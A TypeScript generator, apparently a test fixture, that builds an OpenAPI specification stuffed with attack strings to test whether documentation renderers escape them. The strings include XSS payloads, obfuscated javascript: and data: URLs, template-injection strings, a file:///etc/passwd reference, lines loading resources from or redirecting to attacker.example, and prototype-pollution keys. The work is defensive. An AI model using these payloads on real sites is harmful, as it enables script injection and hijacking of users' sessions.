// A specification whose author attacks its readers, in every field that documentation shows.

const mark = "globalThis.attacked='yes';document.title='attacked'";

/** Texts that run a script if a page inserts them as markup, into an attribute, into a URL, or into a template. */
const texts = [
  `<script>${mark}</script>`,
  `"><img src=x onerror="${mark}">`,
  `'><svg/onload="${mark}">`,
  `</code></pre><iframe srcdoc="<script>parent.${mark}</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${mark}"></style></mglyph></table></mtext></math>`,
  `<svg><a xlink:href="javascript:${mark}"><text>a</text></a><animate onbegin="${mark}" attributeName=x dur=1s></svg>`,
  `<style>@import 'https://attacker.example/a.css';body{display:none}</style>`,
  `<form action="javascript:${mark}"><button formaction="javascript:${mark}">a</button></form>`,
  `<base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=https://attacker.example/">`,
  `<link rel="stylesheet" href="https://attacker.example/a.css"><object data="https://attacker.example/a"></object>`,
  `{{constructor.constructor("${mark}")()}} \${${mark}} <%= ${mark} %> #{${mark}}`,
  `]]><!--><script>${mark}</script>--><noscript><p title="</noscript><script>${mark}</script>"></noscript>`,
  `\u202e\u2066 right to left \u200f\u0007\u001b[31m ${'long '.repeat(3)}`,
  `<details open ontoggle="${mark}"><summary id="content" name="body">a</summary></details>`,
];

/** URLs that run a script, in all spellings that browsers accept. */
const urls = [
  `javascript:${mark}`,
  `JaVaScRiPt:${mark}`,
  `java\tscript:${mark}`,
  `java\nscript:${mark}`,
  `\u0001javascript:${mark}`,
  ` \u0000javascript:${mark}`,
  `&#106;avascript:${mark}`,
  `javascript&colon;${mark}`,
  `data:text/html,<script>parent.${mark}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${mark}"/>`,
  `vbscript:${mark}`,
  `blob:https://attacker.example/a`,
  `file:///etc/passwd`,
  `//attacker.example/a"onmouseover="${mark}`,
  `https://attacker.example/"onmouseover="${mark}`,
];

/** Names of members of prototypes. */
const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'];

const longName = 'n'.repeat(10_000);

const markdown = [
  ...texts,
  ...urls.flatMap((url) => [
    `[a](${url})`,
    `[b](<${url}>)`,
    `![c](${url})`,
    `<a href="${url}">d</a>`,
    `<img src="${url}">`,
    `<${url}>`,
  ]),
  `[e]: ${urls[0]}\n\n[e]`,
  `\`\`\`html"onmouseover="${mark}\n${texts[0]}\n\`\`\``,
  `| a | b |\n|---|---|\n| ${texts[1]} | [c](${urls[2]}) |`,
  `$$\\href{javascript:${mark}}{a}$$`,
];

/** The number of attacks in one description. */
const inDescription = 8;

let next = 0;
const text = () => texts[next++ % texts.length] ?? '';
const description = () =>
  Array.from({ length: inDescription }, () => markdown[next++ % markdown.length]).join('\n\n');
const url = () => urls[next++ % urls.length] ?? '';

/** Members with the names of attacks and of prototypes. An entry for `__proto__` is an own member. */
function members(count: number, value: (index: number) => unknown): Record<string, unknown> {
  const keys = [...Array.from({ length: count }, text), ...names.slice(0, 2)];
  return Object.fromEntries(keys.map((key, index) => [key, value(index)]));
}

const externalDocs = () => ({ url: url(), description: text() });

function schema(depth: number): Record<string, unknown> {
  return {
    ...{
      title: text(),
      description: description(),
      externalDocs: externalDocs(),
      pattern: text(),
      format: text(),
    },
    type: 'object',
    required: names,
    default: text(),
    examples: [text(), { [text()]: text() }],
    'x-enum-descriptions': [text(), text()],
    properties: members(4, (index) =>
      depth > 0 && index === 0
        ? schema(depth - 1)
        : {
            type: 'string',
            enum: [text(), text()],
            description: text(),
            default: text(),
            pattern: text(),
            const: text(),
          },
    ),
    patternProperties: { [text()]: { type: text() } },
    discriminator: { propertyName: text(), mapping: { [text()]: url() } },
    oneOf: [
      { title: text(), $ref: `#/components/schemas/${encodeURIComponent(text())}` },
      { title: text(), type: text() },
    ],
  };
}

function content(): Record<string, unknown> {
  return Object.fromEntries(
    ['application/json', 'multipart/form-data', text(), `text/html;a="${text()}"`].map((type) => [
      type,
      {
        schema: schema(1),
        examples: {
          ...members(3, () => ({ summary: text(), description: description(), value: { [text()]: text() } })),
          outside: { externalValue: url() },
        },
        encoding: { [text()]: { contentType: text(), headers: { [text()]: { description: text() } } } },
      },
    ]),
  );
}

function operation(id: string): Record<string, unknown> {
  return {
    tags: [text()],
    ...{
      operationId: id + text(),
      summary: text(),
      description: description(),
      externalDocs: externalDocs(),
    },
    'x-sunset': text(),
    deprecated: true,
    servers: [
      {
        url: url(),
        description: description(),
        variables: members(2, () => ({ default: text(), enum: [text()], description: text() })),
      },
    ],
    security: [{ [text()]: [text()] }, { key: [] }, {}],
    parameters: ['query', 'header', 'cookie', 'path'].flatMap((place) =>
      [text(), ...names].map((name) => ({
        ...{ name: place + name, in: place, required: place === 'path', description: description() },
        schema: { type: 'string', enum: [text()], default: text() },
        examples: { [text()]: { value: text(), externalValue: url() } },
      })),
    ),
    requestBody: { description: description(), content: content() },
    responses: {
      200: {
        description: description(),
        headers: members(2, () => ({ description: text(), schema: { type: 'string' } })),
        content: content(),
      },
      [text()]: { description: text() },
      [longName]: {
        description: longName,
        content: { [longName]: { schema: { $ref: `#/components/schemas/${longName}` } } },
      },
      default: {
        description: text(),
        links: { [text()]: { operationId: text(), description: description() } },
      },
    },
    callbacks: {
      [text()]: { [text()]: { post: { summary: text(), description: description(), responses: {} } } },
    },
    'x-codeSamples': texts.slice(0, 4).map((source) => ({ lang: text(), label: text(), source })),
  };
}

/** A specification with attacks in every field. */
export function hostileSpecification(): Record<string, unknown> {
  next = 0;
  return {
    openapi: '3.1.0',
    info: {
      ...{
        title: texts.join(' '),
        version: text(),
        summary: text(),
        description: description(),
        termsOfService: url(),
      },
      contact: { name: text(), url: url(), email: text() },
      license: { name: text(), url: url() },
    },
    externalDocs: externalDocs(),
    servers: urls.map((each) => ({ url: each, description: text() })),
    tags: texts
      .slice(0, 5)
      .map((name) => ({ name, summary: text(), description: description(), externalDocs: externalDocs() })),
    paths: Object.fromEntries(
      texts
        .slice(0, 2)
        .map((each, index) => [`/${index}/${each}/{${each}}`, { post: operation(`post${index}`) }]),
    ),
    webhooks: members(1, (index) => ({ post: operation(`hook${index}`) })),
    components: {
      schemas: {
        ...members(3, () => schema(1)),
        [longName]: { type: 'object', properties: { [longName]: { enum: [longName] } } },
      },
      securitySchemes: {
        key: { type: 'apiKey', in: 'header', name: text(), description: description() },
        [text()]: {
          type: 'oauth2',
          description: description(),
          flows: { implicit: { authorizationUrl: url(), scopes: { [text()]: text() } } },
        },
        open: { type: 'openIdConnect', openIdConnectUrl: url(), description: text() },
      },
    },
  };
}
